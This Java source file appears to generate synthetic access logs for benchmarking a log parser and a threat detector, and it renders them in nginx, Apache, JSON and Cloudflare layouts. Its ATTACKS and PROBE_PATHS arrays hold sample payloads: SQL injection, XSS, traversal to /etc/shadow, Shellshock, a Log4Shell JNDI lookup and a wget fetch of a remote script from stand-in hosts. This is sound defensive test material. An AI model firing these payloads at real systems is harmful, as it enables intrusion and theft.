package dev.threatip.bench;

import dev.threatip.log.ClientIpResolver;
import dev.threatip.log.LineFields;
import dev.threatip.log.LineParser;
import dev.threatip.log.LogFormat;
import dev.threatip.log.LogFormats;
import dev.threatip.net.AddressClass;
import dev.threatip.net.SpecialRanges;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.function.Function;
import java.util.zip.CRC32;

/**
 * Deterministic access-log traffic for the parser and detection benchmarks: the mix of
 * {@code ../shared/bench/gen_corpus.py} (the corpus of the end-to-end runner) ported to Java, and
 * renderers that write the same requests in each log layout the benchmarks cover.
 *
 * <p>The mix, per "draw" as in gen_corpus.py: 95.5% a benign visitor's session of 1-4 requests
 * (Zipf(0.9) over {@code lines / 40} clients, 8% of them IPv6 in 2001:db8::/32; 55% static
 * assets, else pages with 3% errors), 1% a good crawler (Googlebot/Bingbot from their ranges),
 * 0.7% one failed login of a "dispersed" client, 2.8% a malicious client ({@code lines / 2000} of
 * them, in turn scanner, brute force, web attack, malicious bot, and listed-but-quiet) doing its
 * thing: 3-8 probes of sensitive paths, 5-15 login attempts, 1-3 payloads (SQLi, XSS, traversal,
 * RCE/JNDI), 10-30 scraped pages. Event times rise over 24 hours from 2026-11-01T00:00Z.
 * Unlike gen_corpus.py no address is taken from a feed: these benchmarks do not consult intel.
 *
 * <p>Layouts ({@link #LAYOUTS}) are keyed by the benchmark's format name; a format of
 * {@code LogFormats.names()} without a layout here is not benchmarked (the benchmarks say which).
 * Layouts with a header ({@code #Fields:}) return it apart from the data lines, since a parser
 * reads it once per file.
 */
public final class AccessCorpus {
    static final String[] BROWSER_UAS = {
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    };
    static final String[] GOOD_BOT_UAS = {
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    };
    static final String[] SCANNER_UAS = {
        "Mozilla/5.0 zgrab/0.x", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "sqlmap/1.8.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "python-requests/2.31.0", "Go-http-client/1.1",
    };
    static final String[] SCRAPER_UAS = {"Scrapy/2.11.0 (+https://scrapy.org)", "curl/8.5.0", "Wget/1.21.4", "python-urllib3/2.0.7"};
    static final String[] PAGES = {"/", "/index.html", "/products", "/products/%d", "/cart", "/search?q=%s", "/blog/%d",
        "/about", "/api/v1/items/%d", "/api/v1/user/profile", "/checkout", "/help/faq"};
    static final String[] STATIC = {"/static/app.%x.js", "/static/style.%x.css", "/img/p%d.webp", "/favicon.ico"};
    static final String[] WORDS = {"shoes", "red+dress", "laptop", "phone+case", "coffee", "garden", "books", "lamp"};
    static final String[] PROBE_PATHS = {"/.env", "/.git/config", "/wp-login.php", "/wp-admin/setup-config.php",
        "/phpmyadmin/index.php", "/admin/.env", "/config.php.bak", "/server-status", "/actuator/env", "/.aws/credentials",
        "/cgi-bin/luci/;stok=/locale", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/solr/admin/info/system",
        "/boaform/admin/formLogin", "/HNAP1/", "/owa/auth/logon.aspx", "/.DS_Store", "/backup.zip", "/db.sql",
        "/xmlrpc.php", "/.svn/entries", "/console/login/LoginForm.jsp"};
    static final String[][] ATTACKS = {
        {"/products?id=1%27%20OR%20%271%27=%271", "/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--",
            "/api/v1/items/1;DROP%20TABLE%20items", "/products?id=1%20AND%20SLEEP(5)", "/login?user=admin%27--"},
        {"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
            "/blog/1?c=javascript:alert(document.cookie)", "/search?q=%3Csvg/onload=alert(1)%3E"},
        {"/static/../../../../etc/passwd", "/download?file=..%2F..%2F..%2Fetc%2Fshadow", "/img?f=....//....//etc/hosts",
            "/api/v1/file?path=%2e%2e%2f%2e%2e%2fwindows/win.ini"},
        {"/index.php?cmd=;cat%20/etc/passwd", "/cgi-bin/test.cgi?x=()%20{%20:;%20};%20/bin/bash%20-c%20id",
            "/api?q=${jndi:ldap://198.51.100.7/a}", "/?s=$(wget%20http://203.0.113.9/x.sh)"},
    };
    static final String[] KINDS = {"scanner", "bruteforce", "web_attack", "malicious_bot", "known_bad_quiet"};

    /** 2026-11-01T00:00:00Z, the start of gen_corpus.py's default window. */
    static final long START_MILLIS = 1_793_491_200_000L;

    /** One request, before it is written in a layout. */
    public record Request(String ip, long timeMillis, String method, String path, int status, int bytes,
                          String referer, String userAgent) {
        boolean ipv6() {
            return ip.indexOf(':') >= 0;
        }
    }

    /** Lines of one layout, ready to parse: {@code data[starts[i], ends[i])} is line i, without its newline. */
    public record Lines(String layout, List<String> header, byte[] data, int[] starts, int[] ends) {
        public int count() {
            return starts.length;
        }

        /** Bytes of line i including its newline, as read from a file. */
        public int fileBytes(int i) {
            return ends[i] - starts[i] + 1;
        }

        public double averageLineBytes() {
            return (double) data.length / count();
        }
    }

    /** Renderers by benchmark format name; see the class comment. */
    public static final Map<String, Function<Request, String>> LAYOUTS = new TreeMap<>();

    /** Headers written before the data lines, for layouts that have them. */
    static final Map<String, List<String>> HEADERS = new TreeMap<>();

    /** The nginx {@code combined} layout as an nginx {@code log_format} string (compiled by {@code NginxLogFormat}). */
    public static final String NGINX_COMBINED =
            "$remote_addr - $remote_user [$time_local] \"$request\" $status $body_bytes_sent \"$http_referer\" \"$http_user_agent\"";

    /** The Apache {@code combined} layout as an Apache {@code LogFormat} string (compiled by {@code ApacheLogFormat}). */
    public static final String APACHE_COMBINED = "%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\"";

    private static final DateTimeFormatter CLF =
            DateTimeFormatter.ofPattern("dd/MMM/yyyy:HH:mm:ss Z", Locale.ROOT).withZone(ZoneOffset.UTC);
    private static final DateTimeFormatter ISO_SECONDS =
            DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ss'Z'", Locale.ROOT).withZone(ZoneOffset.UTC);

    static {
        LAYOUTS.put("combined", AccessCorpus::combined);
        LAYOUTS.put("nginx-combined", AccessCorpus::combined);
        LAYOUTS.put("apache-combined", AccessCorpus::combined);
        LAYOUTS.put("common", r -> String.format(Locale.ROOT, "%s - - [%s] \"%s %s HTTP/1.1\" %d %d",
                r.ip, CLF.format(Instant.ofEpochMilli(r.timeMillis)), r.method, r.path, r.status, r.bytes));
        // gen_corpus.py --format json: the same member names and order, compact separators.
        LAYOUTS.put("json", r -> "{\"time\":\"" + ISO_SECONDS.format(Instant.ofEpochMilli(r.timeMillis))
                + "\",\"client_ip\":\"" + r.ip + "\",\"method\":\"" + r.method + "\",\"uri\":" + jsonString(r.path)
                + ",\"status\":" + r.status + ",\"bytes\":" + r.bytes + ",\"referer\":" + jsonString(r.referer)
                + ",\"user_agent\":" + jsonString(r.userAgent) + "}");
        LAYOUTS.put("cloudflare", AccessCorpus::cloudflare);
    }

    private AccessCorpus() {
    }

    /**
     * The requests of a corpus of {@code lines} lines; the same for the same arguments.
     */
    public static List<Request> requests(int lines, long seed) {
        SplittableRandom rng = new SplittableRandom(seed);
        int nBenign = Math.max(50, lines / 40);
        String[] benign = new String[nBenign];
        double[] cum = new double[nBenign];
        double acc = 0;
        for (int i = 0; i < nBenign; i++) {
            benign[i] = rng.nextDouble() > 0.08 ? publicIpv4(rng)
                    : String.format(Locale.ROOT, "2001:db8::%x:%x:%x:%x", rng.nextInt(0x10000), rng.nextInt(0x10000),
                            rng.nextInt(0x10000), rng.nextInt(0x10000));
            acc += 1.0 / Math.pow(i + 1, 0.9);
            cum[i] = acc;
        }
        List<String> goodBots = new ArrayList<>();
        for (int i = 1; i < 40; i++) {
            goodBots.add("66.249.66." + i);
        }
        for (int i = 1; i < 20; i++) {
            goodBots.add("157.55.39." + i);
        }
        int nBad = Math.max(20, lines / 2000);
        String[] bad = new String[nBad];
        for (int i = 0; i < nBad; i++) {
            bad[i] = publicIpv4(rng);
        }
        String[] dispersed = new String[Math.max(30, lines / 5000)];
        for (int i = 0; i < dispersed.length; i++) {
            dispersed[i] = publicIpv4(rng);
        }

        List<Request> out = new ArrayList<>(lines);
        double step = 24 * 3600_000.0 / Math.max(lines, 1);
        double[] clock = {START_MILLIS};
        Emitter emit = (ip, method, path, status, bytes, ref, ua) -> {
            if (out.size() < lines) {
                clock[0] += -Math.log(1 - rng.nextDouble()) * step;
                out.add(new Request(ip, (long) clock[0], method, path, status, bytes, ref, ua));
            }
        };
        while (out.size() < lines) {
            double r = rng.nextDouble();
            if (r < 0.955) {
                int at = Arrays.binarySearch(cum, rng.nextDouble() * acc);
                String ip = benign[Math.min(nBenign - 1, at < 0 ? -at - 1 : at)];
                CRC32 crc = new CRC32();
                crc.update(ip.getBytes(StandardCharsets.US_ASCII));
                String ua = BROWSER_UAS[(int) (crc.getValue() % BROWSER_UAS.length)];
                for (int k = 1 + rng.nextInt(4); k > 0; k--) {
                    String p;
                    int status;
                    int size;
                    if (rng.nextDouble() < 0.55) {
                        p = fill(rng, pick(rng, STATIC));
                        status = rng.nextInt(4) == 3 ? 304 : 200;
                        size = 400 + rng.nextInt(89_601);
                    } else {
                        p = fill(rng, pick(rng, PAGES));
                        int s = rng.nextInt(33);
                        status = s < 30 ? 200 : s == 30 ? 404 : s == 31 ? 302 : 500;
                        size = 800 + rng.nextInt(39_201);
                    }
                    String method = p.equals("/checkout") && rng.nextDouble() < 0.3 ? "POST" : "GET";
                    emit.emit(ip, method, p, status, size, "https://shop.example.com/", ua);
                }
            } else if (r < 0.965) {
                emit.emit(goodBots.get(rng.nextInt(goodBots.size())), "GET", fill(rng, pick(rng, PAGES)), 200,
                        800 + rng.nextInt(39_201), "-", pick(rng, GOOD_BOT_UAS));
            } else if (r < 0.972) {
                emit.emit(pick(rng, dispersed), "POST", "/api/login", 401, 87, "https://shop.example.com/login",
                        pick(rng, BROWSER_UAS));
            } else {
                int i = rng.nextInt(nBad);
                String ip = bad[i];
                switch (KINDS[i % KINDS.length]) {
                    case "scanner" -> {
                        List<String> probes = sample(rng, PROBE_PATHS, 3 + rng.nextInt(6));
                        for (String p : probes) {
                            emit.emit(ip, "GET", p, rng.nextInt(4) == 3 ? 403 : 404, 150 + rng.nextInt(451), "-",
                                    pick(rng, SCANNER_UAS));
                        }
                    }
                    case "bruteforce" -> {
                        for (int k = 5 + rng.nextInt(11); k > 0; k--) {
                            emit.emit(ip, "POST", "/api/login", rng.nextInt(13) == 12 ? 200 : 401, 87, "-",
                                    rng.nextInt(BROWSER_UAS.length + SCRAPER_UAS.length) < BROWSER_UAS.length
                                            ? pick(rng, BROWSER_UAS) : pick(rng, SCRAPER_UAS));
                        }
                    }
                    case "web_attack" -> {
                        String[] family = ATTACKS[rng.nextInt(ATTACKS.length)];
                        for (String p : sample(rng, family, Math.min(family.length, 1 + rng.nextInt(3)))) {
                            emit.emit(ip, "GET", p, new int[] {200, 400, 403, 500}[rng.nextInt(4)], 150 + rng.nextInt(4851),
                                    "-", rng.nextBoolean() ? pick(rng, BROWSER_UAS) : pick(rng, SCANNER_UAS));
                        }
                    }
                    case "malicious_bot" -> {
                        String ua = pick(rng, SCRAPER_UAS);
                        for (int k = 10 + rng.nextInt(21); k > 0; k--) {
                            emit.emit(ip, "GET", fill(rng, PAGES[3 + rng.nextInt(4)]), 200, 800 + rng.nextInt(39_201), "-", ua);
                        }
                    }
                    default -> emit.emit(ip, "GET", fill(rng, pick(rng, PAGES)), 200, 800 + rng.nextInt(39_201), "-",
                            pick(rng, BROWSER_UAS));
                }
            }
        }
        return out;
    }

    /**
     * The requests written in one layout, one line each.
     *
     * @throws IllegalArgumentException naming the layout and the known ones
     */
    public static Lines render(String layout, List<Request> requests) {
        Function<Request, String> f = LAYOUTS.get(layout);
        if (f == null) {
            throw new IllegalArgumentException("no sample layout for format '" + layout + "'; known: "
                    + String.join(", ", LAYOUTS.keySet()));
        }
        ByteArrayOutputStream buf = new ByteArrayOutputStream(requests.size() * 256);
        int[] starts = new int[requests.size()];
        int[] ends = new int[requests.size()];
        for (int i = 0; i < requests.size(); i++) {
            byte[] line = f.apply(requests.get(i)).getBytes(StandardCharsets.UTF_8);
            starts[i] = buf.size();
            buf.write(line, 0, line.length);
            ends[i] = buf.size();
            buf.write('\n');
        }
        return new Lines(layout, HEADERS.getOrDefault(layout, List.of()), buf.toByteArray(), starts, ends);
    }

    /**
     * The format a benchmark format name stands for: {@code nginx-combined} and
     * {@code apache-combined} are {@link #NGINX_COMBINED} and {@link #APACHE_COMBINED} compiled
     * by {@link LogFormats#compile}; every other name is a built-in format of {@link LogFormats}.
     */
    public static LogFormat format(String name) {
        return switch (name) {
            case "nginx-combined" -> LogFormats.compile(NGINX_COMBINED);
            case "apache-combined" -> LogFormats.compile(APACHE_COMBINED);
            default -> LogFormats.named(name, null);
        };
    }

    /** Registered formats that have no layout here, so no benchmark covers them. */
    public static List<String> uncoveredFormats() {
        return LogFormats.names().stream().filter(n -> !LAYOUTS.containsKey(n)).toList();
    }

    /**
     * A parser that has read the layout's header, after checking that it makes of every line an
     * event with a valid client and the status that was written, so a benchmark never measures
     * a parser rejecting its input.
     *
     * @throws IllegalStateException naming the first line the format does not read as written
     */
    public static LineParser checkedParser(LogFormat format, Lines lines, List<Request> requests) {
        LineFields f = new LineFields();
        LineParser check = format.newParser();
        LineParser parser = format.newParser();
        for (String h : lines.header()) {
            byte[] b = h.getBytes(StandardCharsets.UTF_8);
            f.reset();
            check.parse(b, 0, b.length, f);
            f.reset();
            parser.parse(b, 0, b.length, f);
        }
        ClientIpResolver resolver = ClientIpResolver.direct();
        for (int i = 0; i < lines.count(); i++) {
            f.reset();
            LineParser.Outcome o = check.parse(lines.data(), lines.starts()[i], lines.ends()[i], f);
            boolean client = o == LineParser.Outcome.EVENT && resolver.resolve(f);
            if (!client || f.status != requests.get(i).status()) {
                throw new IllegalStateException("format " + format.name() + " reads line " + (i + 1) + " as " + o
                        + (client ? " with status " + f.status : " without a valid client") + ": "
                        + new String(lines.data(), lines.starts()[i], lines.ends()[i] - lines.starts()[i],
                                StandardCharsets.UTF_8));
            }
        }
        return parser;
    }

    private static String combined(Request r) {
        return String.format(Locale.ROOT, "%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"%s\" \"%s\"", r.ip,
                CLF.format(Instant.ofEpochMilli(r.timeMillis)), r.method, r.path, r.status, r.bytes, r.referer, r.userAgent);
    }

    /**
     * A Cloudflare Logpush {@code http_requests} line with the default {@code unixnano} times and
     * the members of the lnav sample in {@code ../shared/data/logs/cloudflare}, including ones
     * the parser skips (RayID, cache and WAF fields, empty arrays).
     */
    private static String cloudflare(Request r) {
        long startNs = r.timeMillis * 1_000_000L;
        int h = r.ip.hashCode() ^ (int) r.timeMillis;
        boolean asset = r.path.startsWith("/static/") || r.path.startsWith("/img/") || r.path.equals("/favicon.ico");
        return "{\"ClientIP\":\"" + r.ip + "\",\"ClientRequestHost\":\"shop.example.com\",\"ClientRequestMethod\":\""
                + r.method + "\",\"ClientRequestURI\":" + jsonString(r.path) + ",\"ClientRequestUserAgent\":"
                + jsonString(r.userAgent) + ",\"ClientRequestReferer\":" + jsonString(r.referer.equals("-") ? "" : r.referer)
                + ",\"EdgeEndTimestamp\":" + (startNs + 20_000_000L + (h & 0xffffff)) + ",\"EdgeResponseBytes\":" + r.bytes
                + ",\"EdgeResponseStatus\":" + r.status + ",\"EdgeStartTimestamp\":" + startNs
                + ",\"RayID\":\"" + String.format(Locale.ROOT, "%016x", (long) h * 0x9E3779B97F4A7C15L)
                + "\",\"CacheCacheStatus\":\"" + (asset ? "hit" : "dynamic") + "\",\"CacheResponseStatus\":" + r.status
                + ",\"ClientCountry\":\"" + new String[] {"US", "DE", "GB", "FR", "JP", "BR"}[Math.floorMod(h, 6)]
                + "\",\"ClientRequestProtocol\":\"HTTP/2\",\"EdgeColoCode\":\""
                + new String[] {"SEA", "FRA", "LHR", "CDG", "NRT", "GRU"}[Math.floorMod(h, 6)]
                + "\",\"WAFAction\":\"allow\",\"WAFRuleID\":\"\",\"FirewallMatchesActions\":[],\"FirewallMatchesRuleIDs\":[]}";
    }

    private static String jsonString(String s) {
        StringBuilder b = new StringBuilder(s.length() + 2).append('"');
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (c == '"' || c == '\\') {
                b.append('\\').append(c);
            } else if (c < 0x20) {
                b.append(String.format(Locale.ROOT, "\\u%04x", (int) c));
            } else {
                b.append(c);
            }
        }
        return b.append('"').toString();
    }

    private static String publicIpv4(SplittableRandom rng) {
        while (true) {
            int a = rng.nextInt();
            if (SpecialRanges.classifyIpv4(a) == AddressClass.PUBLIC) {
                return (a >>> 24) + "." + (a >>> 16 & 0xff) + "." + (a >>> 8 & 0xff) + "." + (a & 0xff);
            }
        }
    }

    private static String fill(SplittableRandom rng, String template) {
        if (template.contains("%d")) {
            return template.replace("%d", Integer.toString(1 + rng.nextInt(5000)));
        }
        if (template.contains("%x")) {
            return template.replace("%x", Integer.toHexString(rng.nextInt()));
        }
        if (template.contains("%s")) {
            return template.replace("%s", pick(rng, WORDS));
        }
        return template;
    }

    private static <T> T pick(SplittableRandom rng, T[] a) {
        return a[rng.nextInt(a.length)];
    }

    private static List<String> sample(SplittableRandom rng, String[] from, int k) {
        List<String> pool = new ArrayList<>(Arrays.asList(from));
        List<String> out = new ArrayList<>(k);
        for (int i = 0; i < k && !pool.isEmpty(); i++) {
            out.add(pool.remove(rng.nextInt(pool.size())));
        }
        return out;
    }

    @FunctionalInterface
    private interface Emitter {
        void emit(String ip, String method, String path, int status, int bytes, String referer, String userAgent);
    }
}
